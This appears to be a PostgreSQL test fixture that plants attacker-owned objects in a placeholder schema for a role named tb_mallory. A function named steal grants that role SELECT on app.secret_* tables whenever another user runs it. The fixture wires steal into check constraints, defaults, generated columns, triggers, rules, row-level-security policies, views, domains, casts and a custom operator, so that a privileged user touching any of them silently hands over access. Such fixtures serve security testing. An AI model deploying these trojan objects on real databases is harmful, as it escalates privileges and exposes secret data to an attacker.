-- What she puts where @ stands, under every name that the owner's code uses.
CREATE FUNCTION @.steal(kind text) RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    IF current_user <> 'tb_mallory' THEN
        EXECUTE format('GRANT SELECT ON app.secret_%s TO tb_mallory', kind);
    END IF;
    RETURN true;
END $$;
CREATE FUNCTION @.stolen(kind text) RETURNS boolean IMMUTABLE LANGUAGE plpgsql AS 'BEGIN PERFORM @.steal(kind); RETURN true; END';
CREATE FUNCTION @.stolen_text(kind text) RETURNS text IMMUTABLE LANGUAGE plpgsql AS 'BEGIN PERFORM @.steal(kind); RETURN kind; END';
CREATE FUNCTION @.on_row() RETURNS trigger LANGUAGE plpgsql AS $$BEGIN PERFORM @.steal('trigger'); RETURN new; END $$;
CREATE TABLE @.journal (what text CHECK (@.stolen('check')), a boolean DEFAULT @.stolen('default'),
    b boolean GENERATED ALWAYS AS (@.stolen('generated' || left(what, 0))) STORED);
CREATE TRIGGER t BEFORE INSERT ON @.journal FOR EACH ROW EXECUTE FUNCTION @.on_row();
CREATE RULE r AS ON INSERT TO @.journal DO ALSO SELECT @.stolen('rule');
ALTER TABLE @.journal ENABLE ROW LEVEL SECURITY;
CREATE POLICY p ON @.journal USING (true) WITH CHECK (@.stolen('policy'));
CREATE VIEW @.notes AS SELECT @.stolen('view') AS what;
GRANT ALL ON @.journal, @.notes TO PUBLIC;
CREATE DOMAIN @.tag AS text CHECK (@.stolen('domain'));
CREATE TYPE @.kind AS ENUM ('a');
CREATE FUNCTION @.kind_text(@.kind) RETURNS text LANGUAGE plpgsql AS $$BEGIN PERFORM @.steal('cast'); RETURN 'a'; END $$;
CREATE CAST (@.kind AS text) WITH FUNCTION @.kind_text(@.kind);
CREATE FUNCTION @.helper(text) RETURNS text LANGUAGE plpgsql AS $$BEGIN PERFORM @.steal('function'); RETURN $1; END $$;
CREATE FUNCTION @.same(text, text) RETURNS boolean LANGUAGE plpgsql AS $$BEGIN PERFORM @.steal('operator'); RETURN true; END $$;
CREATE OPERATOR @.=== (LEFTARG = text, RIGHTARG = text, FUNCTION = @.same);
